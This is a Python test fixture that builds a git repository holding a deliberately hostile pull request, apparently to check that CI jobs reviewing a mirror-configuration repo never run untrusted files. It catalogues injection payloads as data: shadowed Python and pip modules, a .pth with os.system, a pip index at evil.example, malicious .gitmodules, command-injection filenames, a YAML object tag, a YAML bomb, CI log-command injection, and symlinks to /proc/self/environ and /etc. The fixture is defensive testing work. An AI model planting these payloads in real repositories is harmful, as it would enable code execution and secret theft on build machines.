"""A config repository with an attacker's pull request, for tests of the jobs that check it."""

from collections.abc import Mapping
from pathlib import Path
from typing import NamedTuple

from tests.e2e.forge_jobs import git

SITE = {
    "_site.yml": "title: Test Mirrors\ntime_zone: UTC\ncategories: {os: Operating systems}\n",
    "_workers.yml": "workers:\n  w1: {}\n  w2: {}\n",
    "_defaults.yml": "provider: rsync\nworker: w1\n",
    "debian.yml": "upstream: rsync://up.example.org/debian/\n",
}

CODE = "import os, pathlib\npathlib.Path(os.environ['HOME'], 'pwned').touch()\nraise SystemExit('PWNED')\n"

PROGRAMS = [
    "sitecustomize.py", "usercustomize.py", "conftest.py", "setup.py", "yaml.py", "json.py", "git.py", "pip.py",
    "venv.py", "skipjack.py", "argparse.py", "runner/__init__.py", "runner/cli.py", "schemas/__init__.py",
    "skipjack/__init__.py",
    "pip/__init__.py", "pip/__main__.py", "venv/__init__.py", "venv/__main__.py", "git/__init__.py",
    "lib/python3.11/site-packages/sitecustomize.py", ".skipjack/schemas/evil.py",
]  # fmt: skip
"""Files that would be imported if Python or pip looked into the checkout."""

SHELL = '#!/bin/sh\ntouch "$HOME/pwned"\necho PWNED\n'

OTHERS = {
    "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "setup"\nbackend-path = ["."]\n',
    "evil.pth": "import os; os.system('touch $HOME/pwned')\n",
    "pip.conf": "[global]\nindex-url = https://evil.example/\n",
    "setup.cfg": "[global]\nindex-url = https://evil.example/\n",
    ".env": "LD_PRELOAD=./evil.so\nPYTHONPATH=.\n",
    ".bashrc": SHELL,
    "Makefile": "all:\n\ttouch $$HOME/pwned\n",
    ".gitattributes": "*.yml filter=evil diff=evil merge=evil text eol=crlf\n",
    # git would run both.
    ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c touch% pwned\n\tupdate = !touch $HOME/pwned\n',
    ".git-hooks/post-checkout": SHELL,
    "python": SHELL, "python3": SHELL, "cat": SHELL, "bash": SHELL, "timeout": SHELL, "bin/git": SHELL,
    "x$(touch pwned).yml": "upstream: rsync://up.example.org/x/\n",
    "`touch pwned`.yml": "upstream: rsync://up.example.org/x/\n",
    "--help": "x\n", "--format=json.yml": "x: 1\n", "-rf.yml": "x: 1\n", "a;touch pwned;.yml": "x: 1\n",
    "tag.yml": "upstream: !!python/object/apply:os.system ['touch $HOME/pwned']\n",
    "bomb.yml": "a: &a [x, x]\nb: &b [*a, *a]\nupstream: *b\n",
    "::error::forged.yml": "x: 1\n", "a\n::set-env name=PATH::x.yml": "x: 1\n", "##[add-mask]x.yml": "x: 1\n",
    "@everyone <b> #1 ``` [x](y).yml": "x: 1\n", "</details>.yml": "x: 1\n", "\u202e.yml": "x: 1\n",
    "good.yml": "upstream: rsync://up.example.org/good/\ntitle: '@admin ``` </details> <img src=x> ::error::x #1'\n",
    "program.yml": "provider: command\ncommand: touch pwned\nupstream: rsync://up.example.org/p/\n",
    "hook.yml": "upstream: rsync://up.example.org/h/\nexec_on_success: [touch pwned]\n",
    "env.yml": "upstream: rsync://up.example.org/e/\nenv: {A: '$CANARY ${CANARY} ${{ env.CANARY }}'}\n",
    ".skipjack/schemas/evil.provider.schema.json": '{"$ref": "file:///etc/passwd"}',
}  # fmt: skip


class Attack(NamedTuple):
    """A repository with a base and a pull request, whose merge is `refs/pull/1/merge`."""

    origin: Path
    base: str
    head: str


def begin(folder: Path) -> None:
    """Make the repository of the site, and the attacker's pull request."""
    tree = folder / "tree"
    tree.mkdir()
    git(tree, "init", "-q", "-b", "main")
    write(tree, SITE)
    git(tree, "add", ".")
    git(tree, "commit", "-q", "-m", "Begin")
    git(tree, "checkout", "-q", "-b", "topic")
    write(tree, dict.fromkeys(PROGRAMS, CODE) | OTHERS)
    for name, target in {
        "leak.yml": "../home/secret.yml", "os": "/", "plan.md": "../home/secret.yml", "proc.yml": "/proc/self/environ",
        "gl-code-quality-report.json": "../home/target", "summary.md": "../home/target", ".skipjack/policies": "/etc",
        "venv/bin": "/bin",
    }.items():  # fmt: skip
        (tree / name).parent.mkdir(exist_ok=True, parents=True)
        (tree / name).symlink_to(target)
    git(tree, "add", "--all", "--force")
    git(tree, "commit", "-q", "-m", "A harmless change; `touch pwned` $(touch pwned)")
    git(tree, "checkout", "-q", "main")
    git(tree, "merge", "-q", "--no-ff", "-m", "Merge", "topic")
    for reference, commit in {
        "refs/pull/1/merge": "main", "refs/pull/1/head": "topic", "refs/merge-requests/1/head": "topic",
    }.items():  # fmt: skip
        git(tree, "update-ref", reference, commit)
    git(tree, "reset", "-q", "--hard", "main^1")
    git(tree, "branch", "-q", "-D", "topic")


def write(tree: Path, files: Mapping[str, str]) -> None:
    for name, text in files.items():
        path = tree / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        path.chmod(0o755)
